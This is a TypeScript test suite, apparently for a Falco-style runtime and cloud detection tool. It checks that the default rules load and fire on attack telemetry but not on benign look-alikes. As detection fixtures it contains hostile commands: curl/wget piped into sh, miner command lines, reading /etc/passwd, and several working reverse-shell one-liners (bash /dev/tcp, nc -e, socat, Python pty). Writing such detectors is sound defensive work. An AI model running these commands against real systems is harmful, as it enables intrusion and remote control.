/**
 * Vigil's default rules (rules/*.yaml): the directory loads without errors or warnings, each
 * file also loads alone, names do not collide, tags carry live ATT&CK ids, and each family of
 * rules fires on attack events and stays silent on their benign look-alikes.
 *
 * Events go through the real decoders (the record decoder with per-run state, as `vigil
 * analyze` runs them) and the detector with `--rule-matching all`, so a case asserts exactly what
 * a user would see. Real corpus events are used where the corpus has them (Stratus Red Team
 * CloudTrail detonations, Falco's k8saudit traces, Tetragon's documentation and the O'Reilly
 * walk-through, Panther's CloudTrail rule tests); the rest are hand-written records in the
 * sources' real formats (Tetragon export JSON, audit.k8s.io Events, CloudTrail records).
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, it } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { corpusPath, requireCorpus } from '../../test/support/corpus.js';
import type { VigilEvent } from '../core/event.js';
import type { JsonObject } from '../core/json.js';
import { tactics as attackTactics, technique } from '../core/attack.js';
import { techniquesFromTags, type Signal } from '../core/signal.js';
import { systemClock } from '../core/time.js';
import { decodeFiles } from '../pipeline/decode-files.js';
import { createRecordDecoder, type Decoded } from '../pipeline/record-decoder.js';
import { builtinDecoders } from '../sources/index.js';
import { Detector } from './detect.js';
import { formatDiagnostic } from './diagnostics.js';
import { DEFAULT_RULES_DIR } from './files.js';
import { loadRules, type RuleFile, type RuleSet } from './load.js';
import { RULE_SOURCES } from './sources.js';

// ---- the rule files

const FILES: Readonly<Record<string, string>> = {
  'vigil-cloud.yaml': 'aws_cloudtrail',
  'vigil-k8s.yaml': 'k8s_audit',
  'vigil-runtime.yaml': 'syscall',
};

/** The source tag each file's rules carry, beside `vigil`. */
const SOURCE_TAG: Readonly<Record<string, string>> = { aws_cloudtrail: 'aws', k8s_audit: 'k8s', syscall: 'runtime' };

/** Topic tags, one per family (docs/default-rules.md lists them). */
const TOPICS = new Set([
  'download', 'fileless', 'server_shell', 'cryptomining', 'reverse_shell', 'cloud_metadata', 'k8s_credentials',
  'namespace_change', 'container_escape', 'ransomware', 'data_destruction', 'k8s_workload', 'k8s_exec',
  'cloud_logging', 'detection_tampering', 's3_exposure', 'snapshot_sharing', 'kms', 'identity', 'exfiltration',
]);

function ruleFile(name: string): RuleFile {
  return { name, text: readFileSync(resolve(DEFAULT_RULES_DIR, name), 'utf8') };
}

/** In name order, as `vigil analyze` reads the directory. */
const RULE_FILES: readonly RuleFile[] = Object.keys(FILES).sort().map(ruleFile);
const SET: RuleSet<VigilEvent> = loadRules(RULE_FILES, RULE_SOURCES);
const DETECTOR = new Detector(SET, 'all');
const RULES = new Map(SET.rules.map((r) => [r.name, r]));

interface RawItem {
  readonly rule?: string;
  readonly macro?: string;
  readonly list?: string;
  readonly source?: string;
}

function rawItems(text: string): RawItem[] {
  return parseYaml(text) as RawItem[];
}

/** Names of rules, macros and lists defined in a rule file's text. */
function definedNames(text: string): string[] {
  return rawItems(text).flatMap((i) => [i.rule, i.macro, i.list].filter((n): n is string => n !== undefined));
}

// ---- running events through the real pipeline

/** Rules that fired in some positive case, to check at the end that every rule has one. */
const EXERCISED = new Set<string>();

function decodeRecords(records: readonly unknown[]): VigilEvent[] {
  const decoder = createRecordDecoder({ decoders: builtinDecoders, format: 'auto', clock: systemClock });
  const out: Decoded[] = [];
  records.forEach((r, i) => decoder.decodeText(JSON.stringify(r), { path: 'case.jsonl', line: i + 1 }, out));
  const problems = out.filter((d) => d.type !== 'event');
  assert.deepEqual(problems, [], 'every record decodes to an event');
  return out.flatMap((d) => (d.type === 'event' ? [d.event] : []));
}

function detect(events: readonly VigilEvent[]): Signal[] {
  return events.flatMap((e) => DETECTOR.detect(e));
}

/** Records in order (earlier ones may be processes the later ones descend from); signals of the last. */
function signalsOfLast(records: readonly unknown[]): Signal[] {
  const events = decodeRecords(records);
  const last = events.at(-1);
  assert.ok(last);
  return DETECTOR.detect(last);
}

/** Asserts `rule` fired on the signals, with the rule's ATT&CK techniques; returns its signal. */
function expectFired(signals: readonly Signal[], rule: string): Signal {
  const compiled = RULES.get(rule);
  assert.ok(compiled, `no rule named ${rule}`);
  const s = signals.find((x) => x.rule === rule);
  assert.ok(s, `expected "${rule}"; fired: ${JSON.stringify(signals.map((x) => x.rule))}`);
  const techniques = techniquesFromTags(compiled.tags);
  assert.ok(techniques.length > 0);
  assert.deepEqual([...s.techniques].sort(), [...techniques].sort(), `${rule} carries its technique ids`);
  assert.ok(s.output !== undefined && !s.output.includes('%'), `${rule} renders its output: ${s.output ?? ''}`);
  EXERCISED.add(rule);
  return s;
}

function expectSilent(signals: readonly Signal[], rule: string): void {
  assert.ok(RULES.has(rule), `no rule named ${rule}`);
  assert.ok(!signals.some((x) => x.rule === rule), `"${rule}" fired on a look-alike: ${signals.find((x) => x.rule === rule)?.output ?? ''}`);
}

function fires(rule: string, ...records: unknown[]): Signal {
  return expectFired(signalsOfLast(records), rule);
}

function silent(rule: string, ...records: unknown[]): void {
  expectSilent(signalsOfLast(records), rule);
}

/** Signals of every event in corpus files, decoded as `vigil analyze` reads them. */
async function corpusSignals(...relative: string[]): Promise<Signal[]> {
  const decoded = await decodeFiles(relative.map(corpusPath));
  assert.deepEqual(decoded.errors, []);
  assert.ok(decoded.events.length > 0, `events in ${relative.join(', ')}`);
  return detect(decoded.events);
}

function ruleCounts(signals: readonly Signal[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const s of signals) out[s.rule] = (out[s.rule] ?? 0) + 1;
  return out;
}

// ---- Tetragon records (the export's JSON, as `tetragon getevents -o json` writes it)

let clock = 0;
function nextTime(): string {
  clock++;
  return `2024-05-01T10:${String(Math.floor(clock / 60) % 60).padStart(2, '0')}:${String(clock % 60).padStart(2, '0')}.123456789Z`;
}

const CONTAINER_ID = 'containerd://3f2a9c8e7b6d5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f';

interface ProcSpec {
  readonly binary: string;
  readonly args?: string;
  readonly pid?: number;
  readonly cwd?: string;
  readonly uid?: number;
}

interface Where {
  /** A pod's container (default) or the host. */
  readonly host?: boolean;
  readonly image?: string;
}

function execId(pid: number): string {
  return Buffer.from(`node-1:${pid * 1000}:${pid}`).toString('base64');
}

let pids = 4000;
/** A Tetragon process object, in a pod's container unless `where.host`. */
function proc(p: ProcSpec, where: Where = {}, parentPid?: number): JsonObject {
  const pid = p.pid ?? ++pids;
  const out: JsonObject = {
    exec_id: execId(pid),
    pid,
    uid: p.uid ?? 0,
    cwd: p.cwd ?? '/',
    binary: p.binary,
    ...(p.args === undefined ? {} : { arguments: p.args }),
    flags: 'execve clone',
    start_time: '2024-05-01T09:59:00.000000000Z',
    auid: 4294967295,
    ...(parentPid === undefined ? {} : { parent_exec_id: execId(parentPid) }),
  };
  if (where.host === true) return out;
  const image = where.image ?? 'docker.io/library/shop-web:1.4.2';
  return {
    ...out,
    pod: {
      namespace: 'shop',
      name: 'web-7d9f8b6c5-x2kq4',
      container: {
        id: CONTAINER_ID,
        name: 'web',
        image: { id: `${image.split(':')[0] ?? image}@sha256:${'ab'.repeat(32)}`, name: image },
        start_time: '2024-05-01T09:00:00Z',
        pid: pid % 100,
      },
      pod_labels: { app: 'web' },
      workload: 'web',
      workload_kind: 'Deployment',
    },
    docker: CONTAINER_ID.slice('containerd://'.length, 'containerd://'.length + 31),
  };
}

/** A process_exec of `p` whose parent is `parent`, with optional further ancestors (nearest first). */
function exec(p: ProcSpec, parent: ProcSpec, where: Where = {}, ancestors: readonly ProcSpec[] = []): JsonObject {
  const chain = [p, parent, ...ancestors].map((x) => ({ ...x, pid: x.pid ?? ++pids }));
  const objs = chain.map((x, i) => proc(x, where, chain[i + 1]?.pid));
  return {
    process_exec: { process: objs[0], parent: objs[1], ...(objs.length > 2 ? { ancestors: objs.slice(2) } : {}) },
    node_name: 'node-1',
    time: nextTime(),
  };
}

/** A process_kprobe of `fn` with Tetragon-typed `args` (file_arg, sock_arg, int_arg…). */
function kprobe(p: ProcSpec, fn: string, args: readonly JsonObject[], where: Where = {}, ret?: number): JsonObject {
  const parent: ProcSpec = { binary: '/bin/sh', pid: ++pids };
  const self = { ...p, pid: p.pid ?? ++pids };
  return {
    process_kprobe: {
      process: proc(self, where, parent.pid),
      parent: proc(parent, where),
      function_name: fn,
      args,
      ...(ret === undefined ? {} : { return: { int_arg: ret } }),
      action: 'KPROBE_ACTION_POST',
      policy_name: 'vigil-test',
    },
    node_name: 'node-1',
    time: nextTime(),
  };
}

const fileArg = (path: string): JsonObject => ({ file_arg: { path, permission: '-rw-r--r--' } });
/** security_file_permission with MAY_WRITE: Vigil reads it as a write to the file. */
const fileWrite = (p: ProcSpec, path: string, where: Where = {}): JsonObject => kprobe(p, 'security_file_permission', [fileArg(path), { int_arg: 2 }], where, 0);
/** security_file_open: Vigil reads it as an openat of the file (flags unknown). */
const fileOpen = (p: ProcSpec, path: string, where: Where = {}): JsonObject => kprobe(p, 'security_file_open', [fileArg(path)], where, 0);

function tcpConnect(p: ProcSpec, daddr: string, dport: number, where: Where = {}): JsonObject {
  const family = daddr.includes(':') ? 'AF_INET6' : 'AF_INET';
  const saddr = family === 'AF_INET6' ? 'fd00::5' : '10.42.0.17';
  return kprobe(p, 'tcp_connect', [{ sock_arg: { family, type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr, daddr, sport: 41234, dport, cookie: '18446623549780811904', state: 'TCP_SYN_SENT' } }], where);
}

const SH: ProcSpec = { binary: '/bin/sh' };
const BASH: ProcSpec = { binary: '/bin/bash' };
const RUNC: ProcSpec = { binary: '/usr/bin/runc', args: 'init' };
const SHIM: ProcSpec = { binary: '/usr/bin/containerd-shim-runc-v2', args: '-namespace k8s.io -id 3f2a9c8e7b6d -address /run/containerd/containerd.sock' };

// ---- k8s audit records (audit.k8s.io/v1 Events)

let audits = 0;
function auditEvent(fields: JsonObject): JsonObject {
  audits++;
  const ts = `2024-05-01T11:00:${String(audits % 60).padStart(2, '0')}.000000Z`;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `7c1b6a52-0000-4000-8000-${String(audits).padStart(12, '0')}`,
    stage: 'ResponseComplete',
    user: { username: 'alice@example.com', groups: ['devs', 'system:authenticated'] },
    sourceIPs: ['203.0.113.24'],
    userAgent: 'kubectl/v1.30.1 (linux/amd64) kubernetes/7bd4ba2',
    requestReceivedTimestamp: ts,
    stageTimestamp: ts,
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
    ...fields,
  };
}

interface ContainerSpec {
  readonly name?: string;
  readonly image: string;
  readonly securityContext?: JsonObject;
}

function podCreate(spec: JsonObject, containers: readonly ContainerSpec[], extra: JsonObject = {}): JsonObject {
  const cs = containers.map((c, i) => ({ name: c.name ?? `c${i}`, image: c.image, ...(c.securityContext === undefined ? {} : { securityContext: c.securityContext }) }));
  const podSpec = { containers: cs, ...spec };
  return auditEvent({
    verb: 'create',
    requestURI: '/api/v1/namespaces/shop/pods',
    objectRef: { resource: 'pods', namespace: 'shop', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'debug-pod', namespace: 'shop' }, spec: podSpec },
    responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'debug-pod', namespace: 'shop' }, spec: podSpec },
    ...extra,
  });
}

// ---- CloudTrail records

let ctIds = 0;
const IAM_USER = { type: 'IAMUser', principalId: 'AIDA5EXAMPLE7USERID', arn: 'arn:aws:iam::111122223333:user/mallory', accountId: '111122223333', accessKeyId: 'AKIA5EXAMPLEKEYID01', userName: 'mallory' };
function assumedRole(role: string, session: string, extra: JsonObject = {}): JsonObject {
  return {
    type: 'AssumedRole',
    principalId: `AROA5EXAMPLEROLEID:${session}`,
    arn: `arn:aws:sts::111122223333:assumed-role/${role}/${session}`,
    accountId: '111122223333',
    accessKeyId: 'ASIA5EXAMPLEKEYID02',
    sessionContext: {
      sessionIssuer: { type: 'Role', principalId: 'AROA5EXAMPLEROLEID', arn: `arn:aws:iam::111122223333:role/${role}`, accountId: '111122223333', userName: role },
      attributes: { creationDate: '2024-05-01T11:00:00Z', mfaAuthenticated: 'false' },
      ...extra,
    },
  };
}

function trail(eventSource: string, eventName: string, requestParameters: unknown, fields: JsonObject = {}): JsonObject {
  ctIds++;
  return {
    eventVersion: '1.09',
    userIdentity: IAM_USER,
    eventTime: `2024-05-01T12:00:${String(ctIds % 60).padStart(2, '0')}Z`,
    eventSource,
    eventName,
    awsRegion: 'eu-west-1',
    sourceIPAddress: '198.51.100.23',
    userAgent: 'aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8',
    requestParameters,
    responseElements: null,
    requestID: `req-${ctIds}`,
    eventID: `0f5b1c1e-0000-4000-8000-${String(ctIds).padStart(12, '0')}`,
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: '111122223333',
    eventCategory: 'Management',
    ...fields,
  };
}

interface PantherCase {
  readonly rule_id: string;
  readonly test_name: string;
  readonly log: JsonObject;
}

let pantherCases: PantherCase[] | undefined;
/** A Panther rule-test record (hand-written or sanitised real CloudTrail), by rule and test name. */
function panther(ruleId: string, testName: string): JsonObject {
  pantherCases ??= ['cloudtrail-rule-tests.jsonl', 'cloudtrail-s3-rule-tests.jsonl'].flatMap((f) =>
    readFileSync(corpusPath(`panther-analysis-tests/${f}`), 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as PantherCase));
  const found = pantherCases.find((c) => c.rule_id === ruleId && c.test_name === testName);
  assert.ok(found, `no Panther case ${ruleId} / ${testName}`);
  return found.log;
}

// ============================================================================================

describe('default rules', () => {
  describe('loading', () => {
    it('loads the rules directory with no errors and no warnings', () => {
      assert.deepEqual(SET.diagnostics.map(formatDiagnostic), []);
      assert.equal(SET.counts.files, 3);
      assert.ok(SET.counts.rules >= 45, `rules: ${SET.counts.rules}`);
      assert.equal(SET.counts.enabled, SET.counts.rules, 'every default rule is enabled');
      assert.equal(SET.rules.length, SET.counts.rules, 'every rule compiled');
    });

    it('loads each file alone (no file depends on another)', () => {
      for (const [name, source] of Object.entries(FILES)) {
        const set = loadRules([ruleFile(name)], RULE_SOURCES);
        assert.deepEqual(set.diagnostics.map(formatDiagnostic), [], name);
        assert.ok(set.rules.length > 0, name);
        for (const r of set.rules) assert.equal(r.source, source, `${name}: ${r.name}`);
      }
    });

    it('defines every rule, macro and list name once across the files', () => {
      const seen = new Map<string, string>();
      for (const f of RULE_FILES) {
        for (const n of definedNames(f.text)) {
          assert.ok(!seen.has(n), `${n} is defined in ${seen.get(n) ?? ''} and ${f.name}`);
          seen.set(n, f.name);
        }
      }
      // Helper names are namespaced, so the files also load beside Falco's own rule files.
      for (const f of RULE_FILES) {
        for (const i of rawItems(f.text)) {
          const helper = i.macro ?? i.list;
          if (helper !== undefined) assert.match(helper, /^(vigil_|user_known_vigil_)/, `${f.name}: ${helper}`);
        }
      }
    });

    it('loads beside Falco\'s official rule files without a name clash', (t) => {
      if (!requireCorpus(t)) return;
      const official = ['falco/rules/falco_rules.yaml', 'falco/plugins/k8saudit/rules/k8s_audit_rules.yaml', 'falco/plugins/cloudtrail/rules/aws_cloudtrail_rules.yaml']
        .map((p) => readFileSync(corpusPath(p), 'utf8'));
      const theirs = new Set(official.flatMap(definedNames));
      assert.ok(theirs.size > 100);
      for (const f of RULE_FILES) for (const n of definedNames(f.text)) assert.ok(!theirs.has(n), `${n} (${f.name}) is also a Falco name`);
    });

    it('constrains the event type of every syscall rule, so the engine indexes it', () => {
      const syscall = SET.rules.filter((r) => r.source === 'syscall');
      assert.ok(syscall.length > 0);
      for (const r of syscall) assert.equal(r.types?.all, false, r.name);
    });
  });

  describe('metadata', () => {
    it('gives every rule a description, an output with fields, a priority and its tags', () => {
      for (const r of SET.rules) {
        assert.ok(r.desc.trim().length > 40, `${r.name}: desc`);
        assert.ok((r.output.fields as readonly string[]).length >= 3, `${r.name}: output fields`);
        assert.ok(r.tags.includes('vigil'), `${r.name}: vigil tag`);
        assert.ok(r.tags.includes(SOURCE_TAG[r.source] ?? '?'), `${r.name}: source tag`);
        assert.equal(r.tags.filter((x) => TOPICS.has(x)).length, 1, `${r.name}: one topic tag`);
        assert.ok(r.tags.some((x) => x.startsWith('mitre_')), `${r.name}: tactic tag`);
        assert.ok(techniquesFromTags(r.tags).length > 0, `${r.name}: technique ids`);
        const known = new Set(['vigil', SOURCE_TAG[r.source], ...TOPICS]);
        for (const tag of r.tags) assert.ok(known.has(tag) || tag.startsWith('mitre_') || /^T\d{4}(\.\d{3})?$/.test(tag), `${r.name}: unexpected tag ${tag}`);
      }
    });

    it('uses live ATT&CK technique ids whose tactics the rule names, and real tactics', () => {
      const tag = (shortname: string): string => `mitre_${shortname.replaceAll('-', '_')}`;
      const tacticTags = new Set(attackTactics().map((x) => tag(x.shortname)));
      for (const r of SET.rules) {
        const ruleTactics = r.tags.filter((x) => x.startsWith('mitre_'));
        for (const t of ruleTactics) assert.ok(tacticTags.has(t), `${r.name}: ${t} is not an ATT&CK tactic`);
        const backed = new Set<string>();
        for (const id of techniquesFromTags(r.tags)) {
          const tech = technique(id);
          assert.ok(tech, `${r.name}: ${id} is not a live ATT&CK technique`);
          const own = tech.tactics.map((x) => tag(x.shortname));
          assert.ok(own.some((x) => ruleTactics.includes(x)), `${r.name}: ${id} belongs to ${own.join(', ')}, none tagged`);
          for (const x of own) backed.add(x);
        }
        for (const t of ruleTactics) assert.ok(backed.has(t), `${r.name}: ${t} has no technique of that tactic`);
      }
    });

    it('gives every rule a never-true tuning hook users can override', () => {
      const never = /evt\.num = 0|ka\.verb = __never__|ct\.name = __never__/;
      for (const r of SET.rules) assert.match(SET.compiledConditions.get(r.name) ?? '', never, r.name);
    });

    it('documents every rule in docs/default-rules.md', () => {
      const doc = readFileSync(resolve(DEFAULT_RULES_DIR, '../docs/default-rules.md'), 'utf8');
      for (const r of SET.rules) assert.ok(doc.includes(r.name), `${r.name} is not in docs/default-rules.md`);
    });
  });

  describe('tuning', () => {
    it('stops a rule when its user_known macro is overridden, and honours appended lists', async (t) => {
      if (!requireCorpus(t)) return;
      const overrides: RuleFile = {
        name: 'local.yaml',
        text: `- macro: user_known_vigil_k8s_exec_activities
  condition: (ka.user.name = minikube-user)
  override:
    condition: replace
- list: vigil_ct_automation_identities
  items: [christophe]
  override:
    items: append
`,
      };
      const set = loadRules([...RULE_FILES, overrides], RULE_SOURCES);
      assert.deepEqual(set.diagnostics.map(formatDiagnostic), []);
      const tuned = new Detector(set, 'all');
      const run = async (file: string) => (await decodeFiles([corpusPath(file)])).events.flatMap((e) => tuned.detect(e)).map((s) => s.rule);
      // Both fire with the defaults (see the k8s and cloudtrail cases below).
      assert.deepEqual(await run('falco/plugins/k8saudit/testdata/events/exec_pod.json'), []);
      assert.deepEqual(await run('stratus-red-team/detonation-logs/aws.defense-evasion.cloudtrail-stop.json'), []);
    });
  });

  describe('rule order', () => {
    it('reports the most telling rule first when several match (Falco\'s default first-match)', (t) => {
      const first = new Detector(SET, 'first');
      const firstRule = (record: JsonObject): string | undefined => decodeRecords([record]).flatMap((e) => first.detect(e))[0]?.rule;
      // A miner dropped in /tmp: a cryptominer before a binary run from a temporary directory.
      assert.equal(firstRule(exec({ binary: '/tmp/.x/kworker', args: '-o pool.minexmr.example:4444 --donate-level 0' }, SH)), 'Cryptominer process started');
      // A web server running `curl … | sh`: the server shell before the download.
      assert.equal(firstRule(exec({ binary: '/bin/sh', args: '-c "curl -s http://203.0.113.50/k.sh | sh"' }, { binary: '/usr/local/bin/gunicorn', args: 'app:server' })), 'Shell spawned by server process');
      // A pod that is privileged, shares the host PID namespace and mounts /.
      assert.equal(firstRule(podCreate({ hostPID: true, hostNetwork: true, volumes: [{ name: 'root', hostPath: { path: '/' } }] }, [{ image: 'alpine:3.19', securityContext: { privileged: true } }])), 'Pod created with privileged container');
      assert.equal(firstRule(podCreate({ hostNetwork: true, volumes: [{ name: 'root', hostPath: { path: '/' } }] }, [{ image: 'alpine:3.19' }])), 'Pod created with sensitive host path');
      if (!requireCorpus(t)) return;
      // Root signing in without MFA: root activity before the missing MFA.
      assert.equal(firstRule(panther('AWS.Console.RootLogin', 'Successful Root Login')), 'Root user activity');
    });

    it('orders the runtime rules from the most to the least severe', () => {
      const order = ['Critical', 'Error', 'Warning', 'Notice', 'Informational'];
      const ranks = SET.rules.filter((r) => r.source === 'syscall').map((r) => order.indexOf(r.priority));
      assert.deepEqual(ranks, [...ranks].sort((a, b) => a - b));
    });
  });

  // ------------------------------------------------------------------------------------------
  describe('runtime: downloads and new binaries', () => {
    it('flags tools fetching files into a container, not health checks or hosts', () => {
      const s = fires('File downloaded into container', exec({ binary: '/usr/bin/curl', args: '-fsSLo /tmp/kdevtmpfsi http://45.9.148.3/kdevtmpfsi' }, SH));
      assert.match(s.output ?? '', /curl -fsSLo \/tmp\/kdevtmpfsi/);
      fires('File downloaded into container', exec({ binary: '/usr/bin/wget', args: 'http://45.9.148.3/xmrig.tar.gz' }, SH));
      fires('File downloaded into container', exec({ binary: '/usr/bin/curl', args: '-s -O https://github.com/x/y/releases/download/v1/scanner' }, BASH));
      silent('File downloaded into container', exec({ binary: '/usr/bin/curl', args: '-s -o /dev/null -w "%{http_code}" http://localhost:8080/healthz' }, SH));
      silent('File downloaded into container', exec({ binary: '/usr/bin/wget', args: '-qO- http://localhost:8080/ready' }, SH));
      silent('File downloaded into container', exec({ binary: '/usr/bin/curl', args: '-s http://payments.shop.svc:8080/api/orders' }, SH));
      silent('File downloaded into container', exec({ binary: '/usr/bin/curl', args: '-fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl' }, BASH, { host: true }));
    });

    it('flags a download tool writing a file in a container (file-monitoring policy)', () => {
      fires('Network tool wrote file in container', fileWrite({ binary: '/usr/bin/curl', args: '-sL http://45.9.148.3/x -o /dev/shm/x' }, '/dev/shm/.x/payload'));
      silent('Network tool wrote file in container', fileWrite({ binary: '/usr/bin/wget', args: 'http://mirror/x' }, '/root/.wget-hsts'));
      silent('Network tool wrote file in container', fileWrite({ binary: '/usr/bin/python3', args: 'app.py' }, '/tmp/report.csv'));
    });

    it('flags a download piped into a shell, not an admin installing from an SSH session', () => {
      fires('Download piped into shell', exec({ binary: '/bin/sh', args: '-c "curl -fsSL http://45.9.148.3/init.sh | sh"' }, { binary: '/usr/sbin/cron' }));
      fires('Download piped into shell', exec({ binary: '/bin/bash', args: '-c "wget -q -O - http://198.51.100.9/k.sh | bash -s"' }, { binary: '/usr/bin/java' }));
      silent('Download piped into shell', exec({ binary: '/bin/sh', args: '-c "curl -s http://orders.shop.svc/api | jq .items"' }, { binary: '/usr/bin/node' }));
      silent('Download piped into shell',
        exec({ binary: '/bin/bash', args: '-c "curl -fsSL https://get.docker.com | sh"' }, { binary: '/usr/bin/sudo', args: 'bash -c "curl -fsSL https://get.docker.com | sh"' }, { host: true }, [{ binary: '/bin/bash' }, { binary: '/usr/sbin/sshd', args: '-D' }]));
    });

    it('flags binaries run from temporary directories and memory (corpus: Merlin agent via go run)', async (t) => {
      fires('Binary executed from temporary directory', exec({ binary: '/dev/shm/.x/kswapd0', args: '-c config.json' }, SH));
      fires('Binary executed from temporary directory', exec({ binary: '/var/tmp/.ICE-unix/sshd' }, BASH, { host: true }));
      silent('Binary executed from temporary directory', exec({ binary: '/tmp/go-build2871/b001/orders.test', args: '-test.v' }, { binary: '/usr/local/go/bin/go', args: 'test ./...' }));
      silent('Binary executed from temporary directory', exec({ binary: '/usr/local/bin/app' }, SH));
      fires('Fileless execution from memory', exec({ binary: '/memfd: (deleted)', args: '-o 45.9.148.3:80' }, SH));
      silent('Fileless execution from memory', exec({ binary: '/memfd:runc_cloned:/proc/self/exe (deleted)', args: 'init' }, SHIM));
      if (!requireCorpus(t)) return;
      const merlin = await corpusSignals('tetragon/security-observability-with-ebpf/03_chapter/03_security_observability_events/02_persistance/merlin-agent-go-start.json');
      expectFired(merlin, 'Binary executed from temporary directory');
    });
  });

  describe('runtime: shells spawned by servers', () => {
    it('flags shells started by web servers, runtimes and databases', () => {
      const s = fires('Shell spawned by server process', exec({ binary: '/bin/sh', args: '-c "id; uname -a; cat /etc/passwd"' }, { binary: '/usr/sbin/php-fpm8.2', args: 'pool www' }, {}, [{ binary: '/usr/sbin/php-fpm8.2', args: 'master process (/etc/php/8.2/fpm/php-fpm.conf)' }]));
      assert.match(s.output ?? '', /server php-fpm8\.2/);
      fires('Shell spawned by server process', exec({ binary: '/bin/bash', args: '-c "curl http://198.51.100.9/x|bash"' }, { binary: '/opt/java/openjdk/bin/java', args: '-jar /app/orders.jar' }, {}, [{ binary: '/usr/bin/tini', args: '-- java -jar /app/orders.jar' }]));
      fires('Shell spawned by server process', exec({ binary: '/bin/sh', args: '-c "wget http://x/s -O /tmp/s"' }, { binary: '/usr/lib/postgresql/16/bin/postgres' }, { host: true }));
    });

    it('does not flag admins\' shells, or a server someone started by hand from an interactive shell', async (t) => {
      // kubectl exec: the shell's parent is the container runtime.
      silent('Shell spawned by server process', exec(BASH, RUNC, {}, [SHIM]));
      // A developer runs `python3 app.py` in an interactive bash, and the app calls a shell.
      silent('Shell spawned by server process', exec({ binary: '/bin/sh', args: '-c "git rev-parse HEAD"' }, { binary: '/usr/bin/python3', args: 'app.py' }, {}, [BASH, RUNC]));
      // The same application started by an entrypoint script is not interactive: reported.
      fires('Shell spawned by server process', exec({ binary: '/bin/sh', args: '-c "git rev-parse HEAD"' }, { binary: '/usr/bin/python3', args: 'app.py' }, {}, [{ binary: '/bin/sh', args: '/docker-entrypoint.sh' }, SHIM]));
      if (!requireCorpus(t)) return;
      // The O'Reilly walk-through: `kubectl exec` into the pod (bash under runc), and nginx itself.
      const base = 'tetragon/security-observability-with-ebpf/03_chapter/03_security_observability_events/01_reaching_the_host_namespace/';
      const signals = await corpusSignals(`${base}privileged-pod-bash.json`, `${base}nginx-execution.json`);
      expectSilent(signals, 'Shell spawned by server process');
    });
  });

  describe('runtime: cryptomining', () => {
    it('flags miner processes by name and by command line', () => {
      fires('Cryptominer process started', exec({ binary: '/opt/xmrig/xmrig', args: '--donate-level 1 -o pool.supportxmr.com:3333 -u 44AFFq5k' }, SH));
      fires('Cryptominer process started', exec({ binary: '/tmp/.cache/kworkerd', args: '-a rx/0 -o stratum+tcp://198.51.100.77:14444 -k' }, SH));
      fires('Cryptominer process started', exec({ binary: '/usr/local/bin/SRBMiner-MULTI', args: '--algorithm randomx' }, SH, { host: true }));
      silent('Cryptominer process started', exec({ binary: '/usr/bin/grep', args: 'stratum /etc/chrony/chrony.conf' }, BASH, { host: true }));
      silent('Cryptominer process started', exec({ binary: '/usr/sbin/chronyd', args: '-F 1' }, { binary: '/usr/lib/systemd/systemd' }, { host: true }));
    });

    it('flags connections to mining pool ports on public addresses only', () => {
      const s = fires('Connection to mining pool port', tcpConnect({ binary: '/tmp/.cache/kworkerd' }, '45.9.148.3', 3333));
      assert.match(s.output ?? '', /45\.9\.148\.3:3333/);
      fires('Connection to mining pool port', tcpConnect({ binary: '/usr/bin/python3' }, '198.51.100.77', 45700));
      silent('Connection to mining pool port', tcpConnect({ binary: '/usr/bin/node' }, '10.96.14.2', 5555));
      silent('Connection to mining pool port', tcpConnect({ binary: '/usr/bin/node' }, '45.9.148.3', 443));
    });
  });

  describe('runtime: reverse shells', () => {
    it('flags the common reverse shell command lines', () => {
      fires('Reverse shell command line', exec({ binary: '/bin/bash', args: '-c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"' }, { binary: '/usr/sbin/php-fpm8.2' }));
      fires('Reverse shell command line', exec({ binary: '/bin/bash', args: '-c "exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done"' }, SH));
      fires('Reverse shell command line', exec({ binary: '/usr/bin/nc', args: '-e /bin/sh 203.0.113.7 4444' }, SH));
      fires('Reverse shell command line', exec({ binary: '/usr/bin/ncat', args: '203.0.113.7 4444 --sh-exec "/bin/bash -i"' }, SH));
      fires('Reverse shell command line', exec({ binary: '/usr/bin/socat', args: 'tcp:203.0.113.7:4444 exec:"bash -li",pty,stderr,setsid,sigint,sane' }, SH));
      fires('Reverse shell command line', exec({ binary: '/usr/bin/python3', args: '-c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"203.0.113.7\\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn(\\"/bin/sh\\")"' }, SH));
      fires('Reverse shell command line', exec({ binary: '/bin/sh', args: '-c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"' }, { binary: '/usr/bin/node' }));
    });

    it('does not flag port probes and netcat checks', () => {
      silent('Reverse shell command line', exec({ binary: '/bin/bash', args: '-c "(echo -n >/dev/tcp/postgres/5432) >/dev/null 2>&1"' }, { binary: '/bin/bash', args: '/wait-for-it.sh postgres:5432' }));
      silent('Reverse shell command line', exec({ binary: '/usr/bin/nc', args: '-zv redis 6379' }, SH));
      silent('Reverse shell command line', exec({ binary: '/bin/busybox', args: 'sed -e s/a/b/ /etc/motd' }, SH));
      silent('Reverse shell command line', exec({ binary: '/usr/bin/socat', args: 'TCP-LISTEN:8080,fork TCP:backend:80' }, SH));
      silent('Reverse shell command line', exec({ binary: '/usr/bin/python3', args: '-c "import socket; print(socket.gethostname())"' }, SH));
    });

